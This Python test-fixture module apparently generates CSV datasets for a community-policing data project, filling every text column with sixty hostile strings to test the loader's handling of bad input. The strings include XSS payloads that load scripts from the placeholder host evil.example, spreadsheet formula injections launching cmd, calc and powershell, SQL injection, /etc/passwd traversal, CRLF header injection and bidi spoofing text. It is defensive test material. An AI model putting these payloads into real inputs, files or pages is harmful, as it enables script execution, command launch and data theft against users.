"""Sixty strings that would like to be more than text, and datasets that hold them in every text column of every table.

Row r, column c of turn k holds STRINGS[(ROWS * k + r + STRIDE * c) % 60]: one turn puts every string into some columns and some
string into every column; TURNS turns together put every string into every column.
"""

import csv
import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from types import MappingProxyType

from community_policing.core.schema import TABLES, Column, Kind, Table

RUN = "window.__pwned=1"
EVIL = "evil.example"
LONG = "W" * 10_000
STRINGS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'"><script src=//{EVIL}/a.js></script>',
    f"'\" onmouseover='{RUN}' x='",
    f'<a href="javascript:{RUN}">here</a>',
    f"<b>bold</b><style>@import 'https://{EVIL}/a.css'</style>",
    f"<details open ontoggle={RUN}>more</details>",
    f'<meta http-equiv="refresh" content="0;url=https://{EVIL}">',
    f"<math><mtext></p><img src=//{EVIL}/m onerror={RUN}></math>",
    f"<!--<img src='--><img src=https://{EVIL}/c onerror={RUN}>'>",
    f"![picture](https://{EVIL}/p.png)",
    f"[link](https://{EVIL}/l)",
    f"[click](javascript:{RUN})",
    f"[d](data:text/html,<script>{RUN}</script>)",
    f"![r][x] [x]: https://{EVIL}/r.png",
    f"<https://{EVIL}/auto>",
    f"https://{EVIL}/bare",
    f"www.{EVIL}/www",
    f"somebody@{EVIL}",
    f"javascript:{RUN}",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    ":material/home: and :smile:",
    ":red[alarm] :blue-background[x] :small[y]",
    "$\\frac{1}{2}$ and $$\\href{https://evil.example}{x}$$",
    "&lt;b&gt; &#60;i&#62; &amp;amp; &nbsp;|",
    "**bold** _it_ `code` ~~gone~~ __u__",
    "# heading",
    "- item | 1. item | > quote | a | b |",
    "--- === *** ___",
    "a<br>b<sup>2</sup><sub>3</sub>",
    "<span style='position:fixed;inset:0;background:red'>cover</span>",
    "\u202egnp.exe\u202c and \u2066isolated\u2069",
    "zero\u200bwidth\ufeff and soft\u00adhyphen",
    "Z" + "\u0301\u0323\u0330" * 40 + " pile",
    "control \x01\x07\x1b[31m red \x7f\x85",
    "NUL \0 within",
    LONG,
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=cmd|'/C powershell'!_xlbgnm.A1",
    '=WEBSERVICE("https://evil.example/w")',
    "{x} {0} {label} {tip} {}",
    "%s %d %(x)s %n 100%",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "'; DROP TABLE releases; --",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\cmd.exe",
    "CON.csv:stream",
    "a\r\nSet-Cookie: evil=1\r\n\r\n<b>b</b>",
    "👩‍👩‍👧‍👦 family 🇮🇶 👍🏿",
    "مرحبا بالعالم <b>عريض</b> 123",
    "\ufffd ﷽ \U0001f4a9 ﬁ Ⅷ",
    '#import "/etc/passwd" #eval("1") $x$ \\ #image("a.png")',
    "__proto__ constructor toString",
    "null NaN undefined None true",
    "tab\tand newline\nand   spaces",
)
LOUD = tuple(
    at for at, text in enumerate(STRINGS) if text == LONG or "\0" in text
)  # these take their row, or file, down
ROWS, STRIDE = 12, 7
TURNS = len(STRINGS) // ROWS
GOVERNORATES = tuple(f"IQG{at:02}" for at in range(1, ROWS + 1))
# Rows that are in order wherever they are not hostile: a value, or one for each row.
_SOUND: Mapping[str, Mapping[str, object]] = MappingProxyType(
    {
        "sources": {"published_on": "2016"},
        "donors": {},
        "phases": {"starts_on": "2012", "ends_on": "2017"},
        "grants": {"starts_on": "2012", "ends_on": "2017", "amount": "1000", "currency": "USD"},
        "fora": {
            "governorate": GOVERNORATES, "latitude": "33.3", "longitude": "44.4", "established_by": "iom", "planned_for": "",
            "status": "established", "established_on": "2016-04-20", "closed_on": "", "members_women": "12", "members_men": "18",
            "last_met_on": "2016-05-01",
        },
        "trainings": {
            "kind": ("training", "awareness_campaign", "workshop") * 4, "status": "completed", "starts_on": "2016-05-03",
            "ends_on": "2016-05-05", "governorate": GOVERNORATES,
        },
        "attendance": {"participant_group": "community", "sex": "women", "displacement": "host", "attendances": "20"},
        "infrastructure": {
            "kind": ("police_station_adaptation", "new_venue", "headquarters", "vehicle") * 3, "quantity": "1",
            "status": ("handed_over", "under_way", "agreed", "completed") * 3, "governorate": GOVERNORATES, "latitude": "33.3",
            "longitude": "44.4", "agreed_on": "2016-01-05", "due_on": "2016-10-01", "cost": "500", "currency": "USD",
            "completed_on": ("2016-06-01", "", "", "2016-06-01") * 3,
        },
        "surveys": {"fieldwork_from": "2016-02", "fieldwork_to": "2016-03", "respondents": "900"},
        "estimates": {
            "question": "very_safe", "governorate": GOVERNORATES, "surveyed": "programme", "percent": "35.5", "n": "303",
        },
        "meetings": {"met_on": "2016-05-01", "community_women": "4", "community_men": "9"},
        "concerns": {"raised_in": "2016-05", "topic": "drugs", "status": "raised"},
        "budgets": {"quarter": "2016-Q2", "planned": "900", "spent": "800", "currency": "USD"},
        "targets": {
            "indicator": ("fora_established_iom", "trainings_and_campaigns_held", "attendances") * 4, "governorate": "",
            "period_starts_on": "2016-01-01", "due_on": "2016-12-31", "baseline": "0", "target": "9",
        },
        "facts": {"as_of": "2016-11-30", "published_on": "2016-12", "qualifier": "exact", "scope": "iom"},
        "places": {"governorate": GOVERNORATES, "kind": "forum"},
    }
)  # fmt: skip
_SAID_BY_ALL = {"record": "illustrative", "scope": "iom"}


def string(turn: int, row: int, column: int) -> int:
    """Which string that cell of that turn holds."""
    return (ROWS * turn + row + STRIDE * column) % len(STRINGS)


def text_columns() -> Iterator[tuple[Table, int, Column]]:
    """Every column that holds text, with its place: free, from a vocabulary, a reference, a governorate, a currency."""
    for table in TABLES.values():
        for at, column in enumerate(table.columns):
            if column.kind in (Kind.TEXT, Kind.PCODE, Kind.DISTRICT, Kind.GRANTS):
                yield table, at, column


def write(folder: Path, turn: int, nul: str = "") -> None:
    """A dataset of that turn: `ROWS` sound rows a table with hostile free texts and keys, and for each bound column (a
    vocabulary, a reference, a governorate) rows that hold the strings there, which the loader sets aside.  10,000 letters
    stand in one more row of each; NUL, which takes a whole file down, only in the table that `nul` names."""
    for table in TABLES.values():
        rows = [_sound(table, turn, row) for row in range(ROWS)]
        rows += [
            _bound(table, turn, at, row)
            for at, each in enumerate(table.columns)
            if _is_bound(table, each)
            for row in range(ROWS)
        ]
        loud = [at for at in LOUD if STRINGS[at] == LONG or table.name == nul]
        rows += [{**rows[0], **_keyed(table, f"loud {at}"), _free(table): STRINGS[at]} for at in loud]
        with (folder / f"{table.name}.csv").open("w", encoding="utf-8", newline="") as out:
            writer = csv.DictWriter(out, [column.name for column in table.columns], lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
    about = {"name": STRINGS[turn], "title": STRINGS[12 + turn], "description": STRINGS[24 + turn], "as_of": "2016-11-30",
             "licenses": [{"name": STRINGS[turn], "title": STRINGS[23]}], "synthetic": False, "basis": "rows",
             "resources": [{"name": name, "path": f"{name}.csv"} for name in TABLES]}  # fmt: skip
    (folder / "datapackage.json").write_text(json.dumps(about))


def _is_bound(table: Table, column: Column) -> bool:
    """Whether the loader lets only some texts stand in that column."""
    named = column.name in ("currency",) or (table.name == "targets" and column.name == "indicator")
    bound = column.choices or column.refers_to or column.kind in (Kind.PCODE, Kind.DISTRICT, Kind.GRANTS) or named
    return bool(bound) and column.kind in (Kind.TEXT, Kind.PCODE, Kind.DISTRICT, Kind.GRANTS)


def _sound(table: Table, turn: int, row: int) -> dict[str, str]:
    cells: dict[str, str] = {}
    for at, column in enumerate(table.columns):
        held = _SOUND[table.name].get(column.name, _SAID_BY_ALL.get(column.name, ""))
        cells[column.name] = str(held[row]) if isinstance(held, tuple) else str(held)
        if column.refers_to:
            cells[column.name] = key(column.refers_to, turn, row)
        elif column.kind is Kind.GRANTS:
            cells[column.name] = key("grants", turn, row)
        elif column.kind is Kind.TEXT and not _is_bound(table, column):
            cells[column.name] = key(table.name, turn, row) if column.name in table.key else _quiet(turn, row, at)
    if table.name == "targets":
        cells["revision"] = str(row)
    return cells


def _quiet(turn: int, row: int, at: int) -> str:
    number = string(turn, row, at)
    return f"loud {number}" if number in LOUD else STRINGS[number]


def key(table: str, turn: int, row: int) -> str:
    """The key of that row; ";" would end a grant's id within a list of them."""
    return _quiet(turn, row, 0).replace(";", ",")


def _keyed(table: Table, text: str) -> dict[str, str]:
    first = table.column(table.key[0])
    return {} if first.refers_to or table.name == "targets" else {first.name: text}


def _free(table: Table) -> str:
    """A column that takes any text, or the first."""
    free = [
        c.name for c in table.columns if c.kind is Kind.TEXT and not _is_bound(table, c) and c.name not in table.key
    ]
    return (free or [table.columns[0].name])[0]


def _bound(table: Table, turn: int, at: int, row: int) -> dict[str, str]:
    column = table.columns[at]
    return {**_sound(table, turn, row), **_keyed(table, f"{column.name} {row}"), column.name: _quiet(turn, row, at)}
